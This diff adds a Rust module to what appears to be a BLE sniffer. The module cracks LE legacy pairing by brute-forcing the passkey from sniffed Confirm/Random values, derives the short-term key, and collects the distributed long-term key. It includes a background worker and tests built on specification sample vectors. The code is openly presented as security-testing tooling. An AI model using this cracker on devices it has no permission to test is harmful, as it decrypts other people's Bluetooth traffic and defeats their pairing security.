@@ -0,0 +1,443 @@
+use std::{
+    sync::mpsc::{self, Receiver, Sender},
+    thread,
+};
+
+use crate::{
+    bd_addr::BdAddr,
+    ble_sniffer::{BlePacket, ADV_TYPE_CONNECT_REQ},
+    crypto::{ble_c1_p1_p2, ble_c1_with, ble_s1, expand_key, passkey_to_temporary_key},
+    l2cap::{BleL2capFrame, L2CAP_CID_SMP},
+    smp::SmpPdu,
+};
+
+// Largest passkey that can be entered for Passkey Entry pairing
+#[allow(unused)]
+pub const LEGACY_PAIRING_MAX_PASSKEY: u32 = 999999;
+
+#[allow(unused)]
+#[derive(Debug, Clone)]
+pub struct LegacyPairingKeys {
+    pub access_address: u32,
+    pub passkey: u32,
+    // All keys are little endian like the crypto module
+    pub temporary_key: [u8; 16],
+    pub short_term_key: [u8; 16],
+    // Known once the (decrypted) Encryption Information PDU has been seen
+    pub long_term_key: Option<[u8; 16]>,
+    pub ediv: Option<u16>,
+    pub rand: Option<[u8; 8]>,
+}
+
+#[derive(Debug)]
+struct LegacyPairingSession {
+    access_address: u32,
+    initiator_mac: BdAddr,
+    advertising_mac: BdAddr,
+    pairing_request: Option<[u8; 7]>,
+    pairing_response: Option<[u8; 7]>,
+    initiator_confirm: Option<[u8; 16]>,
+    initiator_random: Option<[u8; 16]>,
+    responder_confirm: Option<[u8; 16]>,
+    responder_random: Option<[u8; 16]>,
+    keys: Option<LegacyPairingKeys>,
+}
+
+// Recovers the TK of LE legacy pairing (Just Works or Passkey Entry) from the
+// sniffed Pairing Confirm/Random values by trying every passkey, then derives the
+// STK. Only meant for testing the security of your own devices.
+#[allow(unused)]
+#[derive(Debug)]
+pub struct LegacyPairingCracker {
+    sessions: Vec<LegacyPairingSession>,
+}
+
+#[allow(unused)]
+impl LegacyPairingCracker {
+    pub fn new() -> LegacyPairingCracker {
+        LegacyPairingCracker {
+            sessions: Vec::new(),
+        }
+    }
+
+    // CONNECT_IND packets give the addresses needed by c1
+    pub fn process_packet(&mut self, packet: &BlePacket) {
+        if let Some((access_address, initiator_mac, advertising_mac)) = connection_addresses(packet)
+        {
+            self.add_connection(access_address, initiator_mac, advertising_mac);
+        }
+    }
+
+    pub fn add_connection(
+        &mut self,
+        access_address: u32,
+        initiator_mac: BdAddr,
+        advertising_mac: BdAddr,
+    ) {
+        self.sessions
+            .retain(|session| session.access_address != access_address);
+        self.sessions.push(LegacyPairingSession {
+            access_address,
+            initiator_mac,
+            advertising_mac,
+            pairing_request: None,
+            pairing_response: None,
+            initiator_confirm: None,
+            initiator_random: None,
+            responder_confirm: None,
+            responder_random: None,
+            keys: None,
+        });
+    }
+
+    // Feed the reassembled SMP frames, returns the keys as soon as the TK is found
+    pub fn process_frame(&mut self, frame: &BleL2capFrame) -> Option<LegacyPairingKeys> {
+        if frame.channel_id != L2CAP_CID_SMP {
+            return None;
+        }
+        let session = self
+            .sessions
+            .iter_mut()
+            .find(|session| session.access_address == frame.access_address)?;
+        // The central is always the SMP initiator
+        let from_initiator = frame.direction_to_slave;
+        match SmpPdu::from(&frame.payload)? {
+            SmpPdu::PairingRequest(_) => {
+                session.pairing_request = frame.payload.as_slice().try_into().ok();
+                session.pairing_response = None;
+                session.initiator_confirm = None;
+                session.initiator_random = None;
+                session.responder_confirm = None;
+                session.responder_random = None;
+                session.keys = None;
+            }
+            SmpPdu::PairingResponse(_) => {
+                session.pairing_response = frame.payload.as_slice().try_into().ok();
+            }
+            SmpPdu::PairingConfirm { confirm } => {
+                if from_initiator {
+                    session.initiator_confirm = Some(confirm);
+                } else {
+                    session.responder_confirm = Some(confirm);
+                }
+            }
+            SmpPdu::PairingRandom { random } => {
+                if from_initiator {
+                    session.initiator_random = Some(random);
+                } else {
+                    session.responder_random = Some(random);
+                }
+                if session.keys.is_none() {
+                    session.keys = crack_session(session);
+                    return session.keys.clone();
+                }
+            }
+            SmpPdu::EncryptionInformation { long_term_key } => {
+                if let Some(keys) = session.keys.as_mut() {
+                    keys.long_term_key = Some(long_term_key);
+                    return Some(keys.clone());
+                }
+            }
+            SmpPdu::CentralIdentification { ediv, rand } => {
+                if let Some(keys) = session.keys.as_mut() {
+                    keys.ediv = Some(ediv);
+                    keys.rand = Some(rand);
+                    return Some(keys.clone());
+                }
+            }
+            _ => {}
+        }
+        None
+    }
+
+    pub fn keys(&self, access_address: u32) -> Option<LegacyPairingKeys> {
+        self.sessions
+            .iter()
+            .find(|session| session.access_address == access_address)
+            .and_then(|session| session.keys.clone())
+    }
+
+    pub fn clear(&mut self) {
+        self.sessions.clear();
+    }
+}
+
+enum LegacyPairingInput {
+    Connection(u32, BdAddr, BdAddr),
+    Frame(BleL2capFrame),
+}
+
+// Runs a LegacyPairingCracker on its own thread so trying the passkeys doesn't
+// hold up the capture, the keys found are picked up with keys(). The thread ends
+// when the worker is dropped.
+#[allow(unused)]
+pub struct LegacyPairingWorker {
+    tx: Sender<LegacyPairingInput>,
+    keys_rx: Receiver<LegacyPairingKeys>,
+}
+
+#[allow(unused)]
+impl LegacyPairingWorker {
+    pub fn spawn() -> LegacyPairingWorker {
+        let (tx, rx) = mpsc::channel::<LegacyPairingInput>();
+        let (keys_tx, keys_rx) = mpsc::channel();
+        thread::spawn(move || {
+            let mut cracker = LegacyPairingCracker::new();
+            for input in rx {
+                let keys = match input {
+                    LegacyPairingInput::Connection(
+                        access_address,
+                        initiator_mac,
+                        advertising_mac,
+                    ) => {
+                        cracker.add_connection(access_address, initiator_mac, advertising_mac);
+                        None
+                    }
+                    LegacyPairingInput::Frame(frame) => cracker.process_frame(&frame),
+                };
+                if let Some(keys) = keys {
+                    if keys_tx.send(keys).is_err() {
+                        break;
+                    }
+                }
+            }
+        });
+        LegacyPairingWorker { tx, keys_rx }
+    }
+
+    // Same as LegacyPairingCracker::process_packet
+    pub fn process_packet(&self, packet: &BlePacket) {
+        if let Some((access_address, initiator_mac, advertising_mac)) = connection_addresses(packet)
+        {
+            let _ = self.tx.send(LegacyPairingInput::Connection(
+                access_address,
+                initiator_mac,
+                advertising_mac,
+            ));
+        }
+    }
+
+    // Only SMP frames are handed over to the thread
+    pub fn process_frame(&self, frame: &BleL2capFrame) {
+        if frame.channel_id == L2CAP_CID_SMP {
+            let _ = self.tx.send(LegacyPairingInput::Frame(frame.clone()));
+        }
+    }
+
+    // Keys found since the last call, in the order LegacyPairingCracker::process_frame
+    // returned them
+    pub fn keys(&self) -> Vec<LegacyPairingKeys> {
+        self.keys_rx.try_iter().collect()
+    }
+}
+
+fn connection_addresses(packet: &BlePacket) -> Option<(u32, BdAddr, BdAddr)> {
+    if packet.ll_layer_data.pdu_type != ADV_TYPE_CONNECT_REQ {
+        return None;
+    }
+    let connect_ind = packet.ll_layer_data.connect_ind.as_ref()?;
+    Some((
+        connect_ind.access_address,
+        connect_ind.initiator_mac,
+        connect_ind.advertising_mac,
+    ))
+}
+
+fn crack_session(session: &LegacyPairingSession) -> Option<LegacyPairingKeys> {
+    let preq = session.pairing_request.as_ref()?;
+    let pres = session.pairing_response.as_ref()?;
+    // Byte 3 of the pairing request/response is AuthReq, bit 3 is the SC flag
+    if (preq[3] >> 3) & 1 == 1 && (pres[3] >> 3) & 1 == 1 {
+        return None;
+    }
+    // Either side's confirm/random pair is enough, prefer the initiator's
+    let (confirm, random) = match (session.initiator_confirm, session.initiator_random) {
+        (Some(confirm), Some(random)) => (confirm, random),
+        _ => match (session.responder_confirm, session.responder_random) {
+            (Some(confirm), Some(random)) => (confirm, random),
+            _ => return None,
+        },
+    };
+    let initiator_random = session.initiator_random?;
+    let responder_random = session.responder_random?;
+    let (p1, p2) = ble_c1_p1_p2(
+        preq,
+        pres,
+        session.initiator_mac.is_random(),
+        &session.initiator_mac.bytes,
+        session.advertising_mac.is_random(),
+        &session.advertising_mac.bytes,
+    );
+    let passkey = crack_passkey(&confirm, &random, &p1, &p2)?;
+    let temporary_key = passkey_to_temporary_key(passkey);
+    Some(LegacyPairingKeys {
+        access_address: session.access_address,
+        passkey,
+        temporary_key,
+        short_term_key: ble_s1(&temporary_key, &responder_random, &initiator_random),
+        long_term_key: None,
+        ediv: None,
+        rand: None,
+    })
+}
+
+// Tries every passkey from 0 (also the Just Works TK) up to 999999
+#[allow(unused)]
+pub fn crack_passkey(
+    confirm: &[u8; 16],
+    random: &[u8; 16],
+    p1: &[u8; 16],
+    p2: &[u8; 16],
+) -> Option<u32> {
+    (0..=LEGACY_PAIRING_MAX_PASSKEY).find(|passkey| {
+        let cipher = expand_key(&passkey_to_temporary_key(*passkey));
+        ble_c1_with(&cipher, random, p1, p2) == *confirm
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use std::time::{Duration, Instant};
+
+    use super::*;
+    use crate::{
+        ble_sniffer::{parse_hex_bytes, BleLLConnectIndMsg},
+        crypto::ble_c1,
+        smp::{SMP_ENCRYPTION_INFORMATION, SMP_PAIRING_CONFIRM, SMP_PAIRING_RANDOM},
+    };
+
+    const ACCESS_ADDRESS: u32 = 0x50654A9B;
+    const PASSKEY: u32 = 123456;
+    // Sample data of Core_v5.4 vol.3 PartH 2.2.3, most significant byte first
+    const PAIRING_REQUEST: &str = "07071000000101";
+    const PAIRING_RESPONSE: &str = "05000800000302";
+    const INITIATOR_ADDRESS: &str = "A1A2A3A4A5A6";
+    const RESPONDER_ADDRESS: &str = "B1B2B3B4B5B6";
+    const RANDOM: &str = "5783D52156AD6F0E6388274EC6702EE0";
+    const CONFIRM: &str = "1E1E3FEF878988EAD2A74DC5BEF13B86";
+
+    fn le_bytes<const N: usize>(hex: &str) -> [u8; N] {
+        let mut bytes: [u8; N] = parse_hex_bytes(hex).unwrap().try_into().unwrap();
+        bytes.reverse();
+        bytes
+    }
+
+    fn address(hex: &str, random: bool) -> BdAddr {
+        BdAddr::from_le(&le_bytes::<6>(hex), random)
+    }
+
+    fn sample_p1_p2() -> ([u8; 16], [u8; 16]) {
+        ble_c1_p1_p2(
+            &le_bytes(PAIRING_REQUEST),
+            &le_bytes(PAIRING_RESPONSE),
+            true,
+            &address(INITIATOR_ADDRESS, true).bytes,
+            false,
+            &address(RESPONDER_ADDRESS, false).bytes,
+        )
+    }
+
+    fn smp_frame(direction_to_slave: bool, payload: &[u8]) -> BleL2capFrame {
+        BleL2capFrame {
+            access_address: ACCESS_ADDRESS,
+            direction_to_slave,
+            channel_id: L2CAP_CID_SMP,
+            payload: payload.to_vec(),
+        }
+    }
+
+    #[test]
+    fn cracks_passkey_from_sample_confirm() {
+        let (p1, p2) = sample_p1_p2();
+        let random = le_bytes(RANDOM);
+        // The sample uses the Just Works TK
+        assert_eq!(
+            crack_passkey(&le_bytes(CONFIRM), &random, &p1, &p2),
+            Some(0)
+        );
+        let confirm = ble_c1(&passkey_to_temporary_key(PASSKEY), &random, &p1, &p2);
+        assert_eq!(crack_passkey(&confirm, &random, &p1, &p2), Some(PASSKEY));
+    }
+
+    // CONNECT_IND and SMP frames of the Just Works sample pairing, the responder's
+    // confirm isn't needed
+    fn sample_pairing() -> (BlePacket, Vec<BleL2capFrame>) {
+        let mut connect_ind = vec![ADV_TYPE_CONNECT_REQ | 0x40, 34];
+        connect_ind.extend_from_slice(&le_bytes::<6>(INITIATOR_ADDRESS));
+        connect_ind.extend_from_slice(&le_bytes::<6>(RESPONDER_ADDRESS));
+        connect_ind.extend_from_slice(&ACCESS_ADDRESS.to_le_bytes());
+        connect_ind.resize(2 + 34, 0);
+        let mut packet = BlePacket::new();
+        packet.ll_layer_data.pdu_type = ADV_TYPE_CONNECT_REQ;
+        packet.ll_layer_data.connect_ind = BleLLConnectIndMsg::from(&connect_ind);
+        let mut initiator_confirm = vec![SMP_PAIRING_CONFIRM];
+        initiator_confirm.extend_from_slice(&le_bytes::<16>(CONFIRM));
+        let mut initiator_random = vec![SMP_PAIRING_RANDOM];
+        initiator_random.extend_from_slice(&le_bytes::<16>(RANDOM));
+        let mut responder_random = vec![SMP_PAIRING_RANDOM];
+        responder_random.extend_from_slice(&[0x5A; 16]);
+        let frames = vec![
+            smp_frame(true, &le_bytes::<7>(PAIRING_REQUEST)),
+            smp_frame(false, &le_bytes::<7>(PAIRING_RESPONSE)),
+            smp_frame(true, &initiator_confirm),
+            smp_frame(true, &initiator_random),
+            smp_frame(false, &responder_random),
+        ];
+        (packet, frames)
+    }
+
+    fn sample_short_term_key() -> [u8; 16] {
+        ble_s1(&[0; 16], &[0x5A; 16], &le_bytes(RANDOM))
+    }
+
+    #[test]
+    fn cracks_sniffed_pairing() {
+        let (packet, frames) = sample_pairing();
+        let mut cracker = LegacyPairingCracker::new();
+        cracker.process_packet(&packet);
+        let (last, frames) = frames.split_last().unwrap();
+        for frame in frames {
+            assert!(cracker.process_frame(frame).is_none());
+        }
+        let keys = cracker.process_frame(last).unwrap();
+        assert_eq!(keys.passkey, 0);
+        assert_eq!(keys.short_term_key, sample_short_term_key());
+        assert_eq!(keys.long_term_key, None);
+
+        // Distributed once the link is encrypted with the STK
+        let mut encryption_information = vec![SMP_ENCRYPTION_INFORMATION];
+        encryption_information.extend_from_slice(&[0x77; 16]);
+        let keys = cracker
+            .process_frame(&smp_frame(false, &encryption_information))
+            .unwrap();
+        assert_eq!(keys.long_term_key, Some([0x77; 16]));
+        assert_eq!(
+            cracker.keys(ACCESS_ADDRESS).unwrap().long_term_key,
+            Some([0x77; 16])
+        );
+    }
+
+    #[test]
+    fn worker_sends_back_the_keys_found() {
+        let (packet, frames) = sample_pairing();
+        let worker = LegacyPairingWorker::spawn();
+        worker.process_packet(&packet);
+        // Frames of other channels aren't handed over
+        let mut att = smp_frame(true, &[0x0A, 0x03, 0x00]);
+        att.channel_id = crate::l2cap::L2CAP_CID_ATT;
+        worker.process_frame(&att);
+        for frame in &frames {
+            worker.process_frame(frame);
+        }
+        let deadline = Instant::now() + Duration::from_secs(5);
+        let mut keys = Vec::new();
+        while keys.is_empty() && Instant::now() < deadline {
+            thread::sleep(Duration::from_millis(10));
+            keys = worker.keys();
+        }
+        assert_eq!(keys.len(), 1);
+        assert_eq!(keys[0].access_address, ACCESS_ADDRESS);
+        assert_eq!(keys[0].short_term_key, sample_short_term_key());
+        assert!(worker.keys().is_empty());
+    }
+}